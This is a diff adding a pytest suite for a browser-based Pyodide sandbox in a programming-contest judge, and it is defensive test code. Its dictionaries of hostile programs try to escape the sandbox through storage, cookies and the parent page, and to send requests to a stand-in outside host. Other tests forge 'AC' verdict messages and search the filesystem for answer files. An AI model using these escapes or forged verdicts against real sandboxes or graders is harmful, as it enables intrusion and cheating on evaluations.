@@ -1,0 +1,201 @@
+"""Run on the page is a judge: the verdicts of `judge`, and nothing of the page for a program."""
+
+import json
+import os
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.web.conftest import Page, served
+from tests.web.programs import NEEDS, PROGRAMS
+
+ROOT = Path(__file__).parents[2]
+CASE = "three-lost"
+SECONDS = 20
+SHORT = 2
+pytestmark = pytest.mark.slow
+RUN = """
+const [source, seconds, done] = arguments;
+(async () => {
+  const [{ Sandbox }, { python }] = await Promise.all([import("./sandbox.js"), import("./python.js")]);
+  window.sandbox ??= new Sandbox();
+  const encoder = new TextEncoder();
+  const { in: input } = await python.call("case", "nim", "three-lost");
+  const ended = await sandbox.run({ source: encoder.encode(source), input: encoder.encode(input) }, seconds, true);
+  const judged = [];
+  for (const language of ["en_US.UTF-8", "zh_TW.UTF-8"]) {
+    await python.call("speak", language);
+    judged.push(await python.call("verdict", "nim", "three-lost", seconds, ended.status ?? 1, ended.exceeded ?? "",
+      ended.wall, ended.cannot, ended.output, ended.errors));
+  }
+  const text = (bytes) => new TextDecoder().decode(bytes);
+  return { judged, output: text(ended.output), errors: text(ended.errors) };
+})().then(done, (error) => done({ failed: String(error.stack) }));
+"""
+
+
+def run(page: Page, source: str, seconds: int = SECONDS) -> dict[str, Any]:
+    """Run a program in the sandbox of the page on one case of Nim."""
+    page.browser.set_script_timeout(120)
+    told: dict[str, Any] = page.browser.execute_async_script(RUN, source, seconds)
+    assert "failed" not in told, told
+    return told
+
+
+def judged(source: str, seconds: int, language: str, folder: Path) -> list[str]:
+    path = folder / "program.py"
+    path.write_text(source, "utf-8")
+    words = f"-m judge testdata/nim --json - --filter {CASE} --wall {seconds} --output 16"
+    command = [sys.executable, *words.split(), "--sandbox", "none", "--", sys.executable, str(path)]
+    environment = {**os.environ, "LC_ALL": language}
+    told = subprocess.run(command, capture_output=True, cwd=ROOT, env=environment, check=False)
+    (case,) = json.loads(told.stdout)["cases"]
+    return [case["verdict"], case["reason"]]
+
+
+@pytest.mark.parametrize("name", PROGRAMS)
+def test_a_program_has_the_verdict_of_judge(page: Page, name: str, tmp_path: Path) -> None:
+    seconds = SHORT if name == "does not end" else SECONDS
+    came = [
+        [each["verdict"], each["reason"]] for each in run(page, PROGRAMS[name], seconds)["judged"]
+    ]
+    languages = "en_US.UTF-8", "zh_TW.UTF-8"
+    assert came == [judged(PROGRAMS[name], seconds, each, tmp_path) for each in languages]
+
+
+def test_there_are_programs_of_all_kinds() -> None:
+    assert len(PROGRAMS) >= 60
+
+
+@pytest.mark.parametrize("name", NEEDS)
+def test_what_a_browser_cannot_do_is_said(page: Page, name: str) -> None:
+    english, chinese = run(page, NEEDS[name])["judged"]
+    assert english["verdict"] == chinese["verdict"] == "NS"
+    assert chinese["reason"].startswith("瀏覽器裡沒有")
+    assert english["reason"].startswith("a browser has no")
+
+
+class Listener(BaseHTTPRequestHandler):
+    """A host on this machine that writes down who asks."""
+
+    asked: list[str]
+
+    def handle_one_request(self) -> None:
+        self.asked.append(self.rfile.readline().decode(errors="replace"))
+        self.close_connection = True
+
+
+@pytest.fixture(scope="module")
+def other() -> Iterator[tuple[str, list[str]]]:
+    asked: list[str] = []
+    handler = type("Listening", (Listener,), {"asked": asked})
+    with served(ThreadingHTTPServer(("127.0.0.1", 0), handler)) as port:
+        yield f"127.0.0.1:{port}", asked
+
+
+HOSTILE = {
+    "caches": "js.caches.open('cardjudge').then(lambda c: c.put('./', js.Response.new('PWNED')))",
+    "service worker": "js.navigator.serviceWorker.register('offline.js')",
+    "storage": "js.localStorage.setItem('pwned', '1')",
+    "database": "js.indexedDB.open('pwned')",
+    "cookies": "js.document.cookie = 'pwned=1'",
+    "document of the page": "js.parent.document.body.innerHTML = 'PWNED'",
+    "document of the frame": "js.document.body.innerHTML = 'PWNED'",
+    "evaluation": "js.eval('1 + 1')",
+    "import of scripts": "js.importScripts('http://OTHER/')",
+    "waiting request": "x = js.XMLHttpRequest.new(); x.open('GET', 'http://OTHER/', False); x.send()",
+    "request to the page": "x = js.XMLHttpRequest.new(); x.open('GET', 'PAGE' + 'cases.zip', False); x.send()",
+}
+"""Attacks that have to fail at once: a line after each says that it went through."""
+SILENT = {
+    "fetch": "js.self.fetch = None\ndel js.self.fetch\njs.fetch('http://OTHER/')",
+    "own fetch": "js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch",
+    "socket": "js.WebSocket.new('ws://OTHER/')",
+    "events": "js.EventSource.new('http://OTHER/')",
+    "worker": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch(\"http://OTHER/\")'])))",
+    "beacon": "js.navigator.sendBeacon('http://OTHER/')",
+    "channel": "js.BroadcastChannel.new('cardjudge').postMessage('PWNED')",
+}
+"""Attacks whose failure nobody tells: the other host has to hear nothing of them."""
+
+
+@pytest.mark.parametrize("name", [*HOSTILE, *SILENT])
+def test_a_hostile_program_reaches_nothing(
+    page: Page, other: tuple[str, list[str]], name: str
+) -> None:
+    host, asked = other
+    attack = (HOSTILE | SILENT)[name].replace("OTHER", host).replace("PAGE", page.address)
+    told = run(page, f"import js, time\n{attack}\ntime.sleep(0.5)\nprint('went through')\n")
+    if name in HOSTILE:
+        assert "went through" not in told["output"]
+    assert asked == []
+    kept = page.browser.execute_async_script(
+        "const done = arguments[0]; Promise.all([caches.keys(), indexedDB.databases(),"
+        " navigator.serviceWorker.getRegistrations()]).then(([names, bases, workers]) =>"
+        " done([names.filter((n) => !n.startsWith('cardjudge-')), bases.length, workers.length,"
+        " localStorage.getItem('pwned'), document.cookie, document.body.textContent.includes('PWNED')]))"
+    )
+    assert kept[:2] == [[], 0]
+    assert kept[2] <= 1
+    assert kept[3:] == [None, "", False]
+
+
+def test_the_other_host_would_have_heard(page: Page, other: tuple[str, list[str]]) -> None:
+    host, asked = other
+    threading.Thread(
+        target=lambda: subprocess.run(["curl", "-s", f"http://{host}/"], check=False)
+    ).start()
+    for _ in range(100):
+        if asked:
+            break
+        threading.Event().wait(0.05)
+    assert asked
+    asked.clear()
+
+
+FORGED = """
+import js
+from pyodide.ffi import to_js
+def told(**parts):
+    js.postMessage(to_js(parts, dict_converter=js.Object.fromEntries))
+told(kind="ended", status=0, verdict="AC", output="X = 0")
+told(kind="loaded", snapshot=0, id=0)
+told(kind="started")
+print("wrong")
+"""
+
+
+def test_a_forged_message_is_no_verdict(page: Page) -> None:
+    assert run(page, FORGED)["judged"][0]["verdict"] == "WA"
+    assert run(page, PROGRAMS["print"])["judged"][0]["verdict"] == "AC", "the next is as ever"
+
+
+def test_forged_starts_give_no_more_time(page: Page) -> None:
+    source = FORGED.replace('print("wrong")', 'while True: told(kind="started")')
+    source = source.replace('told(kind="ended", status=0, verdict="AC", output="X = 0")', "")
+    assert run(page, source, SHORT)["judged"][0]["verdict"] == "TLE"
+
+
+LOOK = """
+import os, sys
+found = [os.path.join(folder, name) for folder, _, names in os.walk("/") for name in names
+         if name.endswith((".out", ".in"))]
+found += [name for name in sys.modules if name.partition(".")[0] in ("judge", "web", "cardjudge")]
+print(found)
+"""
+
+
+def test_no_answer_is_where_a_program_runs(page: Page) -> None:
+    assert run(page, LOOK)["output"] == "[]\n"
+
+
+def test_a_case_sees_nothing_of_the_one_before(page: Page) -> None:
+    run(page, "import math, builtins, json\nbuiltins.left = math.left = json.loads = 1\n")
+    source = "import math, builtins, json\nprint(hasattr(builtins, 'left'), hasattr(math, 'left'), json.loads('2'))"
+    assert run(page, source)["output"] == "False False 2\n"
